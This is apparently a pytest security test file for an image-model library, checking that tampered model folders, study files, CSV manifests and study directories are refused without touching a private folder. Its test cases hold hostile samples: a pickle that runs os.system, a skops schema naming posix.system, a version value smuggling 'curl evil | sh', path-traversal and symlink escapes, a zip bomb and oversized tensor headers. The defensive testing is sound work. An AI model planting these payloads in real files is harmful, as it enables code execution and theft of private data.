"""Files from strangers: each of these is refused in words of its own, and nothing outside the folder is opened."""

import io
import json
import os
import shutil
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from autotl.backbones.timm import TimmBackbone
from autotl.config import find_study, load_study_file
from autotl.coordinator.setup import kept_config
from autotl.data.loading import load_dataset
from autotl.data.sources import FolderSource, ManifestSource
from autotl.errors import AutotlError
from autotl.model.image_model import ImageModel, load
from autotl.model.member import Member
from autotl.recipe import Recipe
from autotl.registry import load_registry
from autotl.strategies.base import Fitted

WATCHED: dict[str, Any] = {"folder": None, "opened": []}


def _watch(event: str, details: tuple[Any, ...]) -> None:
    if event in ("open", "os.remove", "os.rename", "os.mkdir", "shutil.rmtree") and WATCHED["folder"]:
        path = os.fsdecode(details[0]) if isinstance(details[0], str | bytes) else ""
        if os.path.realpath(path).startswith(WATCHED["folder"]):
            WATCHED["opened"].append((event, path))


sys.addaudithook(_watch)  # it can't be taken back; without a folder to watch it does nothing


@pytest.fixture
def secret(tmp_path: Path) -> Iterator[Path]:
    """A folder of somebody's own, beside what came from the stranger: none of it may be touched."""
    folder = tmp_path / "private"
    folder.mkdir()
    (folder / "secret.json").write_text('{"format": 2, "password": "hunter2"}')
    (folder / "secret.png").write_bytes(b"\x89PNG")
    before = {path: path.read_bytes() for path in folder.iterdir()}
    WATCHED.update(folder=os.path.realpath(folder), opened=[])
    yield folder
    WATCHED["folder"] = None
    assert WATCHED["opened"] == []
    assert {path: path.read_bytes() for path in folder.iterdir()} == before


def edit(page: Path, place: str, value: Any) -> None:
    """Set one value of a JSON page; `place` is like `recipe.head_params.width`."""
    content = json.loads(page.read_text())
    *way, last = place.split(".")
    inner = content
    for key in way:
        inner = inner[int(key)] if isinstance(inner, list) else inner[key]
    inner[int(last) if isinstance(inner, list) else last] = value
    page.write_text(json.dumps(content))


def test_what_is_opened_outside_is_seen(secret: Path) -> None:
    (secret / "secret.json").read_text()
    assert [event for event, _ in WATCHED["opened"]] == ["open"]
    WATCHED["opened"] = []


# --- model folders


@pytest.fixture(scope="module")
def sound_model(tiny, tmp_path_factory) -> Path:
    """A model of two members, one with a dense head and tuned blocks, one with an estimator."""
    registry = load_registry(without=["features.openvino"])
    backbone = tiny("test_resnet")
    module = backbone.build()
    tuned = {name: tensor for name, tensor in module.state_dict().items() if name.startswith("stages.3")}
    width = module.num_features
    dense = registry.head("mlp")
    rng = np.random.default_rng(0)
    estimator = registry.head("logistic_regression").build(registry.head("logistic_regression").defaults(), width, 2, 0)
    estimator.fit(rng.standard_normal((20, width)).astype(np.float32), np.arange(20) % 2)
    members = [
        Member(
            Recipe(backbone.name, "fine_tuning", "mlp", 1, {}, dense.defaults()),
            Fitted("last", dense.build(dense.defaults(), width, 2, 0), tuned),
            backbone.digest,
            2,
            trial=0,
        ),
        Member(
            Recipe(backbone.name, "fast_extraction", "logistic_regression", 1, {}, {}),
            Fitted("last", estimator),
            backbone.digest,
            2,
            trial=1,
        ),
    ]
    model = ImageModel(("ants", "bees"), members, {backbone.digest: backbone}, registry=registry)
    return model.save(tmp_path_factory.mktemp("sound") / "model")


@pytest.fixture
def model(sound_model: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(sound_model, tmp_path / "model"))


def huge_tensor(file: Path, size_of_header: int | None = None) -> None:
    """A safetensors file whose header promises a terabyte."""
    header = json.dumps({"weight": {"dtype": "F32", "shape": [1 << 38], "data_offsets": [0, 1 << 40]}}).encode()
    file.write_bytes(struct.pack("<Q", size_of_header or len(header)) + header + b"\0" * 64)


def bomb(file: Path) -> None:
    """A skops file of some kilobytes that unpacks to 64 MB."""
    with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as sound:
        parts = {name: sound.read(name) for name in sound.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
        packed.writestr("zeros.npy", b"\0" * (64 << 20))


def foreign_type(file: Path) -> None:
    """A skops file that would call os.system."""
    schema = {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "content": "posix.system",
        "__id__": 1, "protocol": 2, "_skops_version": "0.14",
    }  # fmt: skip
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("schema.json", json.dumps(schema))


def pickled(file: Path) -> None:
    """A pickle in the place of a skops file, that would make a file when it is loaded."""
    file.write_bytes(b"cos\nsystem\n(S'touch /tmp/autotl-was-here'\ntR.")


def page_of(model: Path) -> Path:
    return model / "model.json"


def member_of(model: Path, number: int = 0) -> Path:
    return model / "members" / str(number) / "member.json"


def linked(path: Path, to: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink()
    path.symlink_to(to)


PLUGIN = {"kind": "backbone", "name": "x", "plugin": "mars", "distribution": "mars-parts", "version": "1"}
HOSTILE_MODELS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
    # what is done to a sound model (given its folder and the private one), and what the user reads
    "a digest that leads out": (
        lambda m, p: edit(page_of(m), "backbones.0.digest", "../../private"),
        r"model\.json is damaged or was made by hand: backbones\.0\.digest",
    ),
    "an absolute digest": (
        lambda m, p: edit(page_of(m), "backbones.0.digest", f"{p}/secret"),
        r"backbones\.0\.digest = '/.*: String should match pattern",
    ),
    "a backbone in a private folder": (
        lambda m, p: edit(page_of(m), "backbones.0.name", f"local-dir:{p}"),
        r"backbones/[0-9a-f]{16}' is not a timm model folder",
    ),
    "a backbone from the network": (
        lambda m, p: edit(page_of(m), "backbones.0.name", "hf-hub:evil/net"),
        r"There is no backbone named 'hf-hub:evil/net'",
    ),
    "a plugin's backbone in a private folder": (
        lambda m, p: edit(page_of(m), "plugins", [{**PLUGIN, "name": f"local-dir:{p}"}]),
        r"says that a plugin brings 'local-dir:.*': it was made by hand",
    ),
    "a command for the user to type": (
        lambda m, p: edit(page_of(m), "plugins", [{**PLUGIN, "version": "1; curl evil | sh"}]),
        r"plugins\.0\.version = '1; curl evil \| sh'",
    ),
    "the page is a link out": (lambda m, p: linked(page_of(m), p / "secret.json"), r"link that leads out of"),
    "a member is a link out": (lambda m, p: linked(m / "members" / "0", p), r"members/0 is a link that leads out of"),
    "weights are a link out": (
        lambda m, p: linked(next((m / "backbones").glob("*.safetensors")), p / "secret.json"),
        r"\.safetensors is a link that leads out of .*, to .*private/secret\.json",
    ),
    "a link up and down again": (
        lambda m, p: (m / "more").symlink_to(Path("..") / "private"),
        r"more is a link that leads out of",
    ),
    "a pipe that never ends": (
        lambda m, p: (member_of(m).unlink(), os.mkfifo(member_of(m))),
        r"member\.json is neither a file nor a folder",
    ),
    "a newer format": (
        lambda m, p: (edit(page_of(m), "format", 7), edit(page_of(m), "about", {"versions": {"autotl": "3.2"}})),
        r"model format 7; this autotl reads format 2\. It was written by autotl 3\.2: use that",
    ),
    "a format of nobody's": (
        lambda m, p: page_of(m).write_text('{"format": "x", "about": [1]}'),
        r"model format 'x'; this autotl reads format 2\. It was written by autotl of another version",
    ),
    "a page nested too deep": (
        lambda m, p: page_of(m).write_text("[" * 200_000),
        r"model\.json is no JSON: it is nested too deep",
    ),
    "a page without an end": (
        lambda m, p: page_of(m).write_bytes(b" " * ((64 << 20) + 1)),
        r"model\.json is no JSON: it has more than",
    ),
    "a billion members": (
        lambda m, p: edit(page_of(m), "members", 10**9),
        r"members = 1000000000: Input should be less",
    ),
    "no members": (lambda m, p: edit(page_of(m), "members", 0), r"members = 0: Input should be greater"),
    "members in words": (
        lambda m, p: edit(page_of(m), "members", "2"),
        r"members = '2': Input should be a valid integer",
    ),
    "a class twice": (lambda m, p: edit(page_of(m), "classes", ["a", "a"]), r"names a class twice"),
    "more classes than its members know": (
        lambda m, p: edit(page_of(m), "classes", ["a", "b", "c"]),
        r"member 0 belongs to another one",
    ),
    "a member of another backbone": (
        lambda m, p: edit(member_of(m), "backbone_digest", "ab" * 16),
        r"member 0 belongs to another one",
    ),
    "a weight that isn't finite": (
        lambda m, p: member_of(m).write_text(member_of(m).read_text().replace('"weight": 1.0', '"weight": NaN')),
        r"weight = nan: Input should be a finite number",
    ),
    "a temperature of nothing": (lambda m, p: edit(member_of(m), "temperature", 0.0), r"temperature = 0\.0"),
    "weights of nothing at all": (
        lambda m, p: [edit(member_of(m, i), "weight", 0.0) for i in (0, 1)],
        r"none of its members has any weight",
    ),
    "levels that are a path": (
        lambda m, p: edit(member_of(m), "levels", "../../private"),
        r"levels = '\.\./\.\./private'",
    ),
    "a recipe of lists": (lambda m, p: edit(member_of(m), "recipe", [1, 2]), r"recipe = \[1, 2\]"),
    "a recipe with a stranger in it": (
        lambda m, p: edit(member_of(m), "recipe.callback", "os.system"),
        r"recipe\.callback = 'os\.system': Extra inputs",
    ),
    "a head of terabytes": (
        lambda m, p: edit(member_of(m), "recipe.head_params.width", 10**12),
        r"doesn't hold the head that its model describes: width is said to be 1,000,000,000,000",
    ),
    "features without number": (
        lambda m, p: edit(member_of(m), "num_features", 10**15),
        r"num_features is said to be 1,000,000,000,000,000",
    ),
    "a head of other features": (lambda m, p: edit(member_of(m, 1), "num_features", 7), r"a classifier of 7 features"),
    "a head parameter that is none": (
        lambda m, p: edit(member_of(m), "recipe.head_params.callback", "os.system"),
        r"doesn't hold the head that its model describes: TypeError",
    ),
    "a tensor larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "head.safetensors"),
        r"head\.safetensors is damaged",
    ),
    "a header larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "backbone_state.safetensors", 1 << 60),
        r"base\.safetensors is damaged",
    ),
    "a pickle for an estimator": (
        lambda m, p: pickled(m / "members" / "1" / "head.skops"),
        r"head\.skops is damaged",
    ),
    "a function for an estimator": (
        lambda m, p: foreign_type(m / "members" / "1" / "head.skops"),
        r"holds types that head 'logistic_regression' doesn't trust, so it isn't loaded: posix\.system",
    ),
    "an estimator that unpacks without end": (
        lambda m, p: bomb(m / "members" / "1" / "head.skops"),
        r"its parts claim [\d,]+ bytes, more than its own",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_MODELS)
def test_a_hostile_model_folder_is_refused(name: str, model: Path, secret: Path) -> None:
    spoil, message = HOSTILE_MODELS[name]
    folder, WATCHED["folder"] = WATCHED["folder"], None  # to lay the trap isn't to fall into it
    spoil(model, secret)
    WATCHED["folder"] = folder
    with pytest.raises(AutotlError, match=message):
        load(model, registry=load_registry(without=["features.openvino"]))
    assert not Path("/tmp/autotl-was-here").exists()


def test_the_model_is_sound_where_nothing_is_done_to_it(model: Path, cells: Path) -> None:
    paths = sorted(cells.glob("*/*"))[:3]
    assert load(model, registry=load_registry(without=["features.openvino"])).predict_proba(paths).shape == (3, 2)


def test_weights_of_a_private_file_are_never_read(model: Path, secret: Path, cells: Path) -> None:
    """A backbone's name may hold the file that it came from; a model has its own."""
    edit(page_of(model), "backbones.0.name", f"test_resnet@{secret / 'secret.json'}")
    loaded = load(model, registry=load_registry(without=["features.openvino"]))
    assert loaded.predict_proba(sorted(cells.glob("*/*"))[:1]).shape == (1, 2)


def test_a_network_of_gigabytes_is_refused_before_it_is_built(model: Path, cells: Path, monkeypatch) -> None:
    edit(page_of(model), "backbones.0.name", "vit_giant_patch14_224")  # a billion parameters
    for i in (0, 1):
        edit(member_of(model, i), "recipe.backbone", "vit_giant_patch14_224")
    loaded = load(model, registry=load_registry(without=["features.openvino"]))
    built = []
    whole = TimmBackbone.build
    monkeypatch.setattr(TimmBackbone, "build", lambda *args, **more: built.append(whole(*args, **more)) or built[-1])
    with pytest.raises(AutotlError, match=r"doesn't hold the weights of vit_giant_patch14_224: it is too small"):
        loaded.predict_proba(sorted(cells.glob("*/*"))[:1])
    assert [{p.device.type for p in module.parameters()} for module in built] == [{"meta"}]


# --- study files

HOSTILE_STUDIES: dict[str, tuple[str, str]] = {
    "absolute data": ('data = "{private}"', r"line 1: data = '/.*private' leads out .*: --data /"),
    "data above": ('data = "../private"', r"line 1: data = '\.\./private' leads out"),
    "data at home": ('data = "~root"', r"data = '~root' leads out"),
    "data behind a link": ('data = "link"', r"data = 'link' leads out of .*, to .*private"),
    "test images elsewhere": ('data = "x"\ntest = "../private"', r"line 2: test = .* leads out .*: --test"),
    "a study written elsewhere": ('data = "x"\noutput = "{private}"', r"line 2: output = .* leads out .*: --output"),
    "a cache elsewhere": ('data = "x"\ncache = "../private"', r"line 2: cache = .* leads out .*: --cache"),
    "a cache behind a link": ('data = "x"\ncache = "link/cache"', r"cache = 'link/cache' leads out"),
    "weights elsewhere": (
        'data = "x"\nbackbones = ["resnet18@{private}/secret.json"]',
        r"line 2: backbones = '/.*secret\.json' leads out .*: --backbone",
    ),
    "a backbone's folder elsewhere": (
        'data = "x"\nbackbones = "local-dir:../private"',
        r"backbones = '\.\./private' leads",
    ),
    "a name that is a path": ('data = "x"\nname = "../../private"', r"name = \"\.\./\.\./private\" won't do"),
    "an absolute name": ('data = "x"\nname = "/tmp/x"', r"name = \"/tmp/x\" won't do"),
    "a path with a NUL": ('data = "a\\u0000b"', r"data = 'a\\x00b' is no path"),
    "tables without end": ("x = " + "[" * 100_000, r"can't be read as TOML: it is nested too deep"),
    "a file without end": ("#" * 1_000_001, r"can't be read as TOML: it has more than 1,000,000 bytes"),
    "an unknown key": ('data = "x"\nplugin = "evil"', r"line 2: unknown key 'plugin'"),
    "bytes that are no text": ("\udcff\udcfe", r"can't be read as TOML: 'utf-8' codec can't decode"),
}


@pytest.mark.parametrize("name", HOSTILE_STUDIES)
def test_a_hostile_study_file_is_refused(
    name: str, secret: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, message = HOSTILE_STUDIES[name]
    folder = tmp_path / "here"
    folder.mkdir()
    (folder / "link").symlink_to(secret)
    monkeypatch.chdir(folder)
    (folder / "study.toml").write_bytes(text.replace("{private}", str(secret)).encode(errors="surrogateescape"))
    with pytest.raises(AutotlError, match=message):
        load_study_file(folder / "study.toml")


def test_what_a_user_types_may_lie_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    (tmp_path / "here" / "study.toml").write_text('data = "/etc"\ncache = "/var"\n')
    config = load_study_file("study.toml", data=str(tmp_path), cache=tmp_path / "cache")
    assert (config.data, config.cache) == (str(tmp_path), tmp_path / "cache")


# --- manifests

HOSTILE_MANIFESTS: dict[str, tuple[str, str]] = {
    "an absolute path": ("{private}/secret.png,a", r"line 2: /.*secret\.png is absolute"),
    "a path above": ("../private/secret.png,a", r"line 2: \.\./private/secret\.png leaves the manifest's folder"),
    "a path down and above": ("sub/../../private/secret.png,a", r"leaves the manifest's folder"),
    "a linked file": ("link.png,a", r"line 2: link\.png leaves the manifest's folder"),
    "a linked folder": ("linked/secret.png,a", r"line 2: linked/secret\.png leaves the manifest's folder"),
    "a drive": (r"C:\secret.png,a", r"is absolute"),
    "a share": (r"\\host\share\secret.png,a", r"is absolute"),
    "a root of another system": (r"\secret.png,a", r"is absolute"),
    "the folder above": ("..,a", r"leaves the manifest's folder"),
    "a path with a NUL": ("a\0b.png,a", r"is no path: it has a NUL"),
    "a value without end": (f"{'a' * 200_000},a", r"not CSV: field larger than field limit"),
    "quotes without end": ('"a.png,a\n' * 3, r"not CSV"),
    "a part of its own": ("a.png,a,__class__", r"3 values for 2 columns"),
}


@pytest.mark.parametrize("name", HOSTILE_MANIFESTS)
def test_a_hostile_manifest_is_refused(name: str, secret: Path, tmp_path: Path) -> None:
    row, message = HOSTILE_MANIFESTS[name]
    folder = tmp_path / "images"
    (folder / "sub").mkdir(parents=True)
    (folder / "link.png").symlink_to(secret / "secret.png")
    (folder / "linked").symlink_to(secret)
    (folder / "images.csv").write_text("path,label\n" + row.replace("{private}", str(secret)))
    with pytest.raises(AutotlError, match=message):
        load_dataset(str(folder / "images.csv"), {"manifest": ManifestSource(), "folder": FolderSource()})


# --- studies

HOSTILE_FOLDERS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
    "the journal is a link out": (lambda s, p: linked(s / "journal.log", p / "secret.json"), r"link that leads out of"),
    "its trials are a link out": (lambda s, p: (s / "trials").symlink_to(p), r"trials is a link that leads out of"),
    "its cache is a link out": (lambda s, p: (s / "cache").symlink_to(p), r"cache is a link that leads out of"),
    "a key of another version": (
        lambda s, p: (s / "study.json").write_text('{"data": "x", "teleport": true}'),
        r"study\.json can't be read by autotl .*teleport.*If another autotl wrote it, use that",
    ),
    "a page of nothing": (lambda s, p: (s / "study.json").write_text("[]"), r"study\.json can't be read"),
}


@pytest.mark.parametrize("name", HOSTILE_FOLDERS)
def test_a_hostile_study_is_refused(name: str, secret: Path, tmp_path: Path) -> None:
    spoil, message = HOSTILE_FOLDERS[name]
    study = tmp_path / "studies" / "x"
    study.mkdir(parents=True)
    (study / "journal.log").touch()
    spoil(study, secret)
    with pytest.raises(AutotlError, match=message):
        kept_config(find_study("x", tmp_path / "studies"))


def test_there_are_as_many_traps_as_were_asked_for() -> None:
    assert len(HOSTILE_MODELS) + len(HOSTILE_STUDIES) + len(HOSTILE_MANIFESTS) + len(HOSTILE_FOLDERS) >= 25
